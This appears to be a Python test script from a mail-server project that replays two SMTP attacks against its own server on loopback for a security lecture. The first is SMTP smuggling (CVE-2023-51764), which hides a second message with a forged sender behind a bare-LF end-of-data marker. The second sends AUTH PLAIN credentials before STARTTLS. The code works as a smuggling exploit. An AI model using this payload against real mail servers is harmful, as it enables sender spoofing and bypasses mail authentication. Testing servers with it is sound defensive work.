#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""raw-smtp.py: the SMTP sessions the security lecture shows that
mailwire's own clients refuse to have (mw-send never sends AUTH that was
not offered, and it ends every line with CRLF). Used by play.sh against
mw-smtpd on loopback; it prints each reply, and exits 0 once the server
has answered everything (whatever it answered: refusing is the point).

  raw-smtp.py smuggle HOST PORT FROM RCPT
      one write after the 354 holding a message, the end-of-data
      look-alike LF . LF, a hidden MAIL/RCPT/DATA and a second message,
      then the real CRLF . CRLF (SMTP smuggling, CVE-2023-51764)
  raw-smtp.py auth-in-clear HOST PORT USER PASSWORD
      EHLO, then AUTH PLAIN with the credentials although the server did
      not offer AUTH before STARTTLS (RFC 4954 §4): the password is on the
      wire before the server can refuse it
"""
import base64
import socket
import sys

HELO = "laptop.example.test"


class Session:
    def __init__(self, host, port):
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        self.file = self.sock.makefile("rb")

    def reply(self):
        """One whole reply (RFC 5321 §4.2.1: "250-" lines, then "250 ")."""
        while True:
            line = self.file.readline()
            if not line:
                raise ConnectionError("the server closed the connection")
            print("S:", line.decode(errors="replace").rstrip())
            if line[3:4] != b"-":
                return int(line[:3])

    def send(self, octets):
        self.sock.sendall(octets)

    def command(self, line):
        self.send(line.encode() + b"\r\n")
        return self.reply()


def smuggle(host, port, sender, recipient):
    s = Session(host, port)
    s.reply()
    s.command(f"EHLO {HELO}")
    s.command(f"MAIL FROM:<{sender}>")
    s.command(f"RCPT TO:<{recipient}>")
    if s.command("DATA") != 354:
        return 1
    hidden = (f"MAIL FROM:<smuggler@{sender.split('@')[-1]}>\r\nRCPT TO:<{recipient}>\r\n"
              "DATA\r\nSubject: smuggled\r\n\r\nNobody sent this one.\r\n")
    s.send(b"Subject: outer\r\n\r\nThe outer message.\n.\n" +
           hidden.encode() + b".\r\n")
    s.reply()
    s.command("QUIT")
    return 0


def auth_in_clear(host, port, user, password):
    s = Session(host, port)
    s.reply()
    s.command(f"EHLO {HELO}")
    token = base64.b64encode(f"\0{user}\0{password}".encode()).decode()
    s.command(f"AUTH PLAIN {token}")
    s.command("QUIT")
    return 0


def main():
    actions = {"smuggle": (smuggle, 4), "auth-in-clear": (auth_in_clear, 4)}
    if len(sys.argv) < 2 or sys.argv[1] not in actions or \
            len(sys.argv) != 2 + actions[sys.argv[1]][1]:
        print(__doc__, file=sys.stderr)
        return 2
    action, _ = actions[sys.argv[1]]
    return action(*sys.argv[2:])


if __name__ == "__main__":
    sys.exit(main())
